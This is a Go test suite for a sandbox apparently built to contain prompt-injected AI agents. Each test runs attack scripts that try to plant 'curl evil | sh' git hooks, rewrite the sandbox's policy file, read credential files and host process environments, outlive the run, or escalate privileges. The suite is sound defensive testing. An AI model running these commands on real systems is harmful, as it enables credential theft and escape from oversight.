package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/cordon-dev/cordon/sandbox/sandboxtest"
	"time"
)

// Each test here is an attack a prompt-injected agent would try, run
// through the real binary and real bubblewrap, as root and as an
// unprivileged user. The command always exits 0 so the checks look at what
// happened, not at how the shell reported it.

func (e *env) sandboxed(script string) result {
	e.t.Helper()
	return e.cordon("", "run", "-c", script+"\nexit 0")
}

// hasReport reports whether stderr holds the report line want, once or
// with a count (", 3 times").
func hasReport(stderr, want string) bool {
	return strings.Contains(stderr, want+"\n") || strings.Contains(stderr, want+", ")
}

func (e *env) mustNotExist(paths ...string) {
	e.t.Helper()
	for _, p := range paths {
		if _, err := os.Lstat(p); err == nil {
			e.t.Errorf("%s exists on the host", p)
		}
	}
}

func (e *env) mustHold(path, content string) {
	e.t.Helper()
	b, err := os.ReadFile(path)
	if err != nil || string(b) != content {
		e.t.Errorf("%s holds %q (%v), want %q", path, b, err, content)
	}
}

// noPlaceholders checks invariant 7: the workspace holds exactly what it
// held before, plus what the command made.
func (e *env) noPlaceholders(allowed ...string) {
	e.t.Helper()
	ok := map[string]bool{".sandbox.toml": true}
	for _, a := range allowed {
		ok[a] = true
	}
	ents, _ := os.ReadDir(e.ws)
	for _, ent := range ents {
		if !ok[ent.Name()] {
			e.t.Errorf("left behind in the workspace: %s", ent.Name())
		}
	}
}

func TestAttackWriteOutside(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		target := filepath.Join(e.home, "target")
		os.WriteFile(target, []byte("orig"), 0o644)
		e.chown()
		r := e.sandboxed(`echo pwned > "$HOME/outside"
ln -s "$HOME/target" link && echo pwned > link
echo pwned > /etc/cordon-pwned
cp /bin/sh "$HOME/.local-sh"`)
		e.mustNotExist(filepath.Join(e.home, "outside"), "/etc/cordon-pwned", filepath.Join(e.home, ".local-sh"))
		e.mustHold(target, "orig")
		if !strings.Contains(r.stderr, "Read-only file system") {
			t.Errorf("no EROFS reported: %s", r.stderr)
		}
		for _, want := range []string{"cordon: blocked write " + filepath.Join(e.home, "outside") + " (default)",
			"cordon: blocked write /etc/cordon-pwned (default)", "cordon: blocked write " + target + " (default)"} {
			if !hasReport(r.stderr, want) {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders("link")
	})
}

func TestAttackPolicyFile(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		const policy = "[network]\ndeny = [\"evil.example\"]\n"
		file := e.write(".sandbox.toml", policy)
		e.sandboxed(`echo '[network]' > .sandbox.toml
echo 'allow = ["evil.example"]' >> .sandbox.toml
printf 'x' > new && mv new .sandbox.toml
rm -f .sandbox.toml
chmod 666 .sandbox.toml
ln .sandbox.toml hard && echo evil >> hard
truncate -s 0 .sandbox.toml
mv . ../moved`)
		e.mustHold(file, policy)
		fi, _ := os.Stat(file)
		if fi == nil || fi.Mode().Perm() != 0o644 {
			t.Errorf("policy mode changed: %v", fi)
		}
		e.mustNotExist(filepath.Join(e.ws, "hard"))
	})
}

func TestAttackCreateProtectedPaths(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_write = [\".env\"]\n")
		os.MkdirAll(filepath.Join(e.ws, ".git"), 0o755)
		e.chown()
		r := e.sandboxed(`mkdir -p .vscode && echo '{"terminal.integrated.shell.linux":"/tmp/x"}' > .vscode/settings.json
mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit
echo 'export PATH=/tmp/evil:$PATH' > .envrc
echo SECRET=1 > .env
echo evil > .bashrc
mkdir .claude; echo '{}' > .mcp.json
mv .git .git-moved
ls -la`)
		for _, p := range []string{".vscode", ".git/hooks", ".envrc", ".env", ".bashrc", ".claude", ".mcp.json", ".git-moved"} {
			e.mustNotExist(filepath.Join(e.ws, p))
		}
		if !strings.Contains(r.stdout, ".git") {
			t.Errorf("the listing inside shows no .git:\n%s", r.stdout)
		}
		for _, want := range []string{
			"cordon: blocked write " + filepath.Join(e.ws, ".envrc") + " (default)",
			"cordon: blocked write " + filepath.Join(e.ws, ".env") + " (" + filepath.Join(e.ws, ".sandbox.toml") + ":2)",
			"cordon: blocked write " + filepath.Join(e.ws, ".git/hooks/pre-commit") + " (default)",
		} {
			if !strings.Contains(r.stderr, want+"\n") {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders(".git")
	})
}

// TestAttackGitFile: in a worktree or a submodule .git is a file naming
// the real gitdir. Commands run there, and can neither repoint it at a
// gitdir of their own, nor replace it with a directory holding hooks, nor
// write the real gitdir's hooks and config.
func TestAttackGitFile(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		gitdir := filepath.Join(e.home, "repo.git")
		for _, d := range []string{"hooks", "worktrees/ws"} {
			os.MkdirAll(filepath.Join(gitdir, d), 0o755)
		}
		os.WriteFile(filepath.Join(gitdir, "config"), []byte("[core]\n"), 0o644)
		wt := filepath.Join(gitdir, "worktrees/ws")
		os.WriteFile(filepath.Join(wt, "commondir"), []byte("../..\n"), 0o644)
		pointer := "gitdir: " + wt + "\n"
		e.write(".git", pointer)
		e.chown()
		r := e.sandboxed(`echo ran
echo "gitdir: $PWD/evil" > .git
rm -f .git; mkdir -p .git/hooks; echo 'curl evil | sh' > .git/hooks/pre-commit
mv .git .git-moved
echo 'curl evil | sh' > ` + filepath.Join(gitdir, "hooks/pre-commit") + `
echo '[core] hooksPath = /tmp' >> ` + filepath.Join(gitdir, "config"))
		if !strings.Contains(r.stdout, "ran") {
			t.Fatalf("the command did not run in a worktree: exit %d\n%s", r.code, r.stderr)
		}
		e.mustHold(filepath.Join(e.ws, ".git"), pointer)
		e.mustHold(filepath.Join(gitdir, "config"), "[core]\n")
		e.mustNotExist(filepath.Join(gitdir, "hooks/pre-commit"), filepath.Join(e.ws, ".git-moved"))
		e.noPlaceholders(".git")
	})
}

// TestAttackDenyWriteNewNames: deny_write holds for names that do not
// exist yet, globs included, whatever call makes the name: redirection,
// touch, mkdir, cp, mv, hard and symbolic links, a dangling symlink
// written through, python's os.open, openat2, and a second thread
// flipping the path between the check and the call. Writes the rules do
// not cover still work, with the caller's umask.
func TestAttackDenyWriteNewNames(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_write = [\"*.pem\", \"secrets/**\", \"config/prod.env\"]\n")
		e.write("ok.txt", "data")
		e.chown()
		r := e.sandboxed(`echo k > key.pem; touch b.pem; mkdir secrets; mkdir -p config && echo x > config/prod.env
ln -s key2.pem lnk; echo x > lnk
cp /etc/hostname c.pem; cp ok.txt d.txt && mv d.txt d.pem; ln ok.txt e.pem; ln -s ok.txt f.pem
python3 -c 'import os; os.open("g.pem", os.O_CREAT | os.O_WRONLY)'
` + probeBin + ` race_create
` + probeBin + ` openat2_create
echo fine > ok2.txt; mkdir -p sub/dir && echo y > sub/dir/file && mv sub/dir/file sub/dir/moved
umask 077; touch private; exec 3>via-fd; echo reopened > /dev/fd/3
echo 500 > /proc/self/oom_score_adj && echo proc-self-ok`)
		for _, name := range []string{"key.pem", "b.pem", "secrets", "config/prod.env", "key2.pem", "c.pem",
			"d.pem", "e.pem", "f.pem", "g.pem", "race.pem", "o2.pem"} {
			e.mustNotExist(filepath.Join(e.ws, name))
		}
		e.mustHold(filepath.Join(e.ws, "ok2.txt"), "fine\n")
		e.mustHold(filepath.Join(e.ws, "sub/dir/moved"), "y\n")
		e.mustHold(filepath.Join(e.ws, "d.txt"), "data")
		if fi, err := os.Stat(filepath.Join(e.ws, "private")); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("a file made under umask 077: %v %v", fi, err)
		}
		e.mustHold(filepath.Join(e.ws, "via-fd"), "reopened\n")
		if strings.Count(r.stdout, "refused:") != 2 || !strings.Contains(r.stdout, "proc-self-ok") {
			t.Errorf("stdout:\n%s", r.stdout)
		}
		rule := " (" + filepath.Join(e.ws, ".sandbox.toml") + ":2)"
		for _, name := range []string{"key.pem", "secrets", "config/prod.env", "key2.pem", "e.pem", "race.pem"} {
			// A name tried again and again (race.pem) is one line with a count.
			if want := "cordon: blocked write " + filepath.Join(e.ws, name) + rule; !hasReport(r.stderr, want) {
				t.Errorf("no %q in:\n%s", want, r.stderr)
			}
		}
		e.noPlaceholders("ok.txt", "ok2.txt", "d.txt", "lnk", "config", "sub", "private", "via-fd", "safe.txt")
	})
}

func TestConcurrentRunsLeaveNothing(t *testing.T) {
	e := newEnv(t)
	done := make(chan result, 4)
	for i := 0; i < 4; i++ {
		go func(i int) {
			done <- e.cordon("", "run", "-c", "sleep 0."+strconv.Itoa(2+i)+"; touch .envrc; echo run"+strconv.Itoa(i)+" > out"+strconv.Itoa(i))
		}(i)
	}
	for i := 0; i < 4; i++ {
		if r := <-done; r.code != 0 {
			t.Fatalf("run: exit %d %s", r.code, r.stderr)
		}
	}
	e.mustNotExist(filepath.Join(e.ws, ".envrc"))
	e.noPlaceholders("out0", "out1", "out2", "out3")
}

func TestAttackDenyRead(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.write(".sandbox.toml", "[filesystem]\ndeny_read = [\"secrets\", \"*.key\"]\n")
		e.write("secrets/token", "s3cret-dir")
		e.write("id.key", "s3cret-file")
		os.MkdirAll(filepath.Join(e.home, ".aws"), 0o755)
		os.WriteFile(filepath.Join(e.home, ".aws", "credentials"), []byte("s3cret-aws"), 0o600)
		e.chown()
		r := e.sandboxed(`cat secrets/token; cat id.key; cat "$HOME/.aws/credentials"; ls secrets
echo x > secrets/new; umount secrets; cat secrets/token; chmod 755 secrets
ln -s secrets/token l && cat l`)
		if strings.Contains(r.stdout, "s3cret") {
			t.Fatalf("a denied file was read: %s", r.stdout)
		}
		e.mustNotExist(filepath.Join(e.ws, "secrets", "new"))
		e.mustHold(filepath.Join(e.ws, "secrets", "token"), "s3cret-dir")
	})
}

func TestAttackPrivilege(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		r := e.sandboxed(`grep CapEff /proc/self/status
grep NoNewPrivs /proc/self/status
mount -o remount,rw / 2>&1 && echo REMOUNTED
touch /usr/cordon-pwned 2>/dev/null && echo WROTE-USR
unshare -U true 2>/dev/null && echo UNSHARED
for p in io_uring af_unix ptrace userns mount keyctl bpf clone_newuser; do printf '%s ' $p; ` + probeBin + ` $p; done`)
		if !strings.Contains(r.stdout, "CapEff:\t0000000000000000") || !strings.Contains(r.stdout, "NoNewPrivs:\t1") {
			t.Errorf("privileges inside:\n%s", r.stdout)
		}
		for _, bad := range []string{"REMOUNTED", "WROTE-USR", "UNSHARED", "allowed"} {
			if strings.Contains(r.stdout, bad) {
				t.Errorf("%s inside the sandbox:\n%s", bad, r.stdout)
			}
		}
		if n := strings.Count(r.stdout, "refused:"); n != 8 {
			t.Errorf("%d of 8 probes refused:\n%s", n, r.stdout)
		}
		e.mustNotExist("/usr/cordon-pwned")
	})
}

func TestAttackHostProcesses(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		victim := exec.Command("sleep", "60")
		victim.Env = []string{"VICTIM_SECRET=hunter2"}
		if err := victim.Start(); err != nil {
			t.Fatal(err)
		}
		defer victim.Process.Kill()
		pid := strconv.Itoa(victim.Process.Pid)
		r := e.sandboxed(`kill -9 ` + pid + `
cat /proc/` + pid + `/environ
ls /proc | grep -c '^[0-9]'`)
		if strings.Contains(r.stdout, "hunter2") {
			t.Fatal("read a host process's environment")
		}
		if err := victim.Process.Signal(syscall.Signal(0)); err != nil {
			t.Fatalf("the host process was killed from inside: %v", err)
		}
		if n, _ := strconv.Atoi(strings.TrimSpace(lastLine(r.stdout))); n == 0 || n > 6 {
			t.Errorf("the sandbox sees %d processes; want only its own", n)
		}
	})
}

func TestAttackOutliveTheRun(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		secs := sandboxtest.Marker(2)
		r := e.sandboxed(`(sleep ` + secs + ` &) ; nohup sleep ` + secs + ` >/dev/null 2>&1 &
setsid sleep ` + secs + ` &`)
		if r.code != 0 {
			t.Fatalf("exit %d: %s", r.code, r.stderr)
		}
		deadline := time.Now().Add(3 * time.Second)
		for len(sandboxtest.Procs("sleep", secs)) > 0 {
			if time.Now().After(deadline) {
				t.Fatalf("%d background processes outlived the run", len(sandboxtest.Procs("sleep", secs)))
			}
			time.Sleep(20 * time.Millisecond)
		}
	})
}

func TestEnvironmentScrubbed(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		e.extra = []string{"DEPLOY_TOKEN=s3cret", "AWS_SECRET_ACCESS_KEY=s3cret", "GITHUB_TOKEN=s3cret", "SSH_AUTH_SOCK=/tmp/agent", "EDITOR=vi"}
		r := e.sandboxed(`env; f=$(mktemp) && echo tmp-ok > "$f" && cat "$f" && echo "tmpdir=$TMPDIR"`)
		if strings.Contains(r.stdout, "s3cret") || strings.Contains(r.stdout, "SSH_AUTH_SOCK") {
			t.Fatalf("a secret reached the command:\n%s", r.stdout)
		}
		if !strings.Contains(r.stdout, "EDITOR=vi") || !strings.Contains(r.stdout, "tmp-ok") {
			t.Fatalf("ordinary variables or mktemp broken:\n%s\n%s", r.stdout, r.stderr)
		}
	})
}

func TestLimits(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		if e.user == nil && os.Geteuid() == 0 {
			// RLIMIT_NPROC exempts root: the run must be refused, not run unlimited.
			e.write(".sandbox.toml", "[limits]\nprocesses = 64\n")
			marker := filepath.Join(e.ws, "ran")
			if r := e.cordon("", "run", "--", "touch", marker); r.code != exitSetup || !strings.Contains(r.stderr, "processes") {
				t.Errorf("processes limit as root: exit %d %q", r.code, r.stderr)
			}
			e.mustNotExist(marker)
			e.write(".sandbox.toml", "[limits]\ntimeout = \"1s\"\nmemory = \"256MiB\"\n")
		} else {
			e.write(".sandbox.toml", "[limits]\ntimeout = \"1s\"\nmemory = \"256MiB\"\nprocesses = 64\n")
		}
		r := e.cordon("", "run", "--", "sleep", "30")
		if r.code != 128+int(syscall.SIGKILL) || !strings.Contains(r.stderr, "timed out") {
			t.Errorf("timeout: exit %d, stderr %q", r.code, r.stderr)
		}
		r = e.sandboxed(`python3 -c 'b = bytearray(1 << 30); print("ALLOCATED")'`)
		if strings.Contains(r.stdout, "ALLOCATED") {
			t.Errorf("allocated 1 GiB under a 256 MiB limit")
		}
		if e.user == nil {
			return
		}
		r = e.sandboxed(`for i in $(seq 100); do sleep 2 & done; wait; echo done`)
		if !strings.Contains(r.stderr+r.stdout, "fork") && !strings.Contains(r.stderr, "Resource temporarily unavailable") {
			t.Logf("stderr: %s", r.stderr)
			t.Errorf("100 processes started under a limit of 64")
		}
	})
}

func TestNoDirectNetwork(t *testing.T) {
	asBoth(t, func(t *testing.T, e *env) {
		r := e.sandboxed(`curl -sS -m 3 --noproxy '*' http://1.1.1.1/ && echo REACHED
curl -sS -m 3 --noproxy '*' http://example.com/ && echo REACHED
python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("1.1.1.1", 53)); print("SENT")'
ip route 2>/dev/null | grep -c default`)
		if strings.Contains(r.stdout, "REACHED") || strings.Contains(r.stdout, "SENT") {
			t.Fatalf("reached the network directly:\n%s", r.stdout)
		}
	})
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	return lines[len(lines)-1]
}
